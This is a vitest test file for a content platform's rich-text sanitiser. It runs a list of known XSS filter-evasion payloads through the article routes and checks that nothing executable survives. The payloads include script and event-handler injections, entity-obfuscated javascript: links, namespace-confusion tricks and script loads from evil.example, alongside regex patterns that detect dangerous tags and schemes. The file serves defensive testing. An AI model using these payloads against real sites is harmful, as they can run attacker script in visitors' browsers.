/**
 * Known XSS payloads against the rich-text sanitiser, the way attackers write them (OWASP's filter-evasion list,
 * html5sec): each goes through the article routes on both drivers, and the stored HTML, the admin's answer, the
 * preview and the public API's answer must hold nothing executable — only the contract's allow-listed tags and
 * attributes, links with an allowed scheme, media by numeric id.
 */
import { MATERIAL_ATTRIBUTE, RICH_TEXT_LINK, RICH_TEXT_TAGS } from '@soundboard/contract';
import { describe, expect, it } from 'vitest';
import { materials } from '../db/schema';
import { pngBytes } from '../media/generate';
import { forEachDriver } from '../test/harness';
import { act, articleRow, contentTeam, createArticle, en } from './article-fixtures';
import { sanitizeRichText } from './sanitize';

export const XSS_PAYLOADS: [string, string][] = [
  ['script', '<script>alert(1)</script><p>x</p>'],
  ['script mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script src', '<script src="https://evil.example/x.js"></script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror with id', `<img ${MATERIAL_ATTRIBUTE}="3" onerror="alert(1)" src="javascript:alert(1)">`],
  ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  [
    'math namespace',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
  [
    'javascript href entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  ['javascript href hex entities', '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'],
  ['javascript href whitespace', '<a href=" &#09;java\nscript:alert(1)">x</a>'],
  ['javascript href tab inside', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript mixed case', '<a HREF="JaVaScRiPt:alert(1)">x</a>'],
  ['data href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['protocol-relative', '<a href="//evil.example/x">x</a>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['style tag', '<style>body{background:url("javascript:alert(1)")}</style>'],
  ['style expression', '<p style="width:expression(alert(1))">x</p>'],
  ['form formaction', '<form><button formaction="javascript:alert(1)">x</button></form>'],
  ['input autofocus', '<input autofocus onfocus=alert(1)>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['attribute breakout', '<p title="x" onmouseover="alert(1)">x</p>'],
  ['quote breakout', '<img alt="x" onerror=alert(1)//" data-material-id="4">'],
  ['unclosed tag', '<img src=x onerror=alert(1)//'],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['audio onerror', `<audio ${MATERIAL_ATTRIBUTE}="5" controls onerror="alert(1)" src="x"></audio>`],
  ['figure product onclick', '<figure data-product-id="3" onclick="alert(1)"><figcaption>x</figcaption></figure>'],
  ['non-numeric material id', `<img ${MATERIAL_ATTRIBUTE}="1 onerror=alert(1)">`],
  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
];

const ALLOWED = RICH_TEXT_TAGS as Record<string, readonly string[]>;

/** Every tag allow-listed, every attribute allowed for its tag, every link of an allowed kind: nothing runs. */
function assertInert(html: string) {
  expect(html).not.toMatch(
    /<\s*\/?\s*(script|iframe|object|embed|style|svg|math|form|button|input|meta|base|link|template)\b/i,
  );
  expect(html).not.toMatch(/\son\w+\s*=/i);
  expect(html).not.toMatch(/(java|vb)script:|data:text/i);
  for (const [, tag, attributes = ''] of html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)) {
    expect(Object.keys(ALLOWED), html).toContain(tag);
    for (const [, name, value = ''] of attributes.matchAll(/([\w-]+)="([^"]*)"/g)) {
      const kept =
        name === 'src' ? /^\/public\/files\/\d+$/.test(value) : ALLOWED[tag as string]?.includes(name as string);
      expect(kept, `${tag} ${name}="${value}" in ${html}`).toBe(true);
      if (name === 'href') expect(value).toMatch(RICH_TEXT_LINK);
      if (name === MATERIAL_ATTRIBUTE || name === 'data-product-id') expect(value).toMatch(/^\d+$/);
    }
  }
}

describe('rich-text sanitiser', () => {
  it.each(XSS_PAYLOADS)('leaves nothing executable of %s', (_name, payload) => {
    assertInert(sanitizeRichText(payload).html);
  });

  it('keeps what the editor writes', () => {
    const html =
      '<h2>Title</h2><p><strong>b</strong> <a href="https://soundboard.example/x" target="_blank">link</a></p>' +
      `<ul><li>one</li></ul><img ${MATERIAL_ATTRIBUTE}="12" alt="photo"><figure data-product-id="3"><figcaption>SB-BS5</figcaption></figure>`;
    const clean = sanitizeRichText(html);
    expect(clean.html).toContain('<h2>Title</h2>');
    expect(clean.html).toContain('href="https://soundboard.example/x"');
    expect(clean.html).toContain('rel="noopener noreferrer nofollow"');
    expect(clean.html).toContain(`<img ${MATERIAL_ATTRIBUTE}="12" alt="photo" />`);
    expect(clean.html).toContain('<figure data-product-id="3">');
    expect(clean.text).toContain('Title');
  });
});

forEachDriver('XSS payloads through the article routes', (h) => {
  it('stores and answers every payload without anything executable', async () => {
    const team = await contentTeam(h);
    // The media the payloads name exist (the framework refuses ids outside the library).
    const bytes = pngBytes(2, 2, () => [1, 2, 3]);
    const [image] = await h.database.db
      .insert(materials)
      .values({
        kind: 'image',
        mime: 'image/png',
        name: 'x.png',
        size: bytes.length,
        hash: await h.deps.files.put(bytes),
      })
      .returning({ id: materials.id });
    const site = { ...en, authorization: `Bearer ${team.siteToken}` };
    for (const [name, payload] of XSS_PAYLOADS) {
      const body = `<p>before</p>${payload.replace(/(data-material-id=")\d+"/g, `$1${image?.id}"`)}`;
      const created = await createArticle(h, team.editor, `XSS ${name}`, { body });
      assertInert(created.body);
      assertInert((await articleRow(h, created.id)).body);
      const preview = await h.call('GET', `/behind/articles/${created.id}/preview`, { token: team.editor });
      assertInert(preview.body.data.body);
      const published = await act(h, team.editor, created.id, 'publish');
      expect(published.status, name).toBe(200);
      const answer = await h.call('GET', `/public/articles/${created.slug}`, { headers: site });
      expect(answer.body.data.body, name).toContain('before');
      assertInert(answer.body.data.body);
    }
  }, 180_000);
});
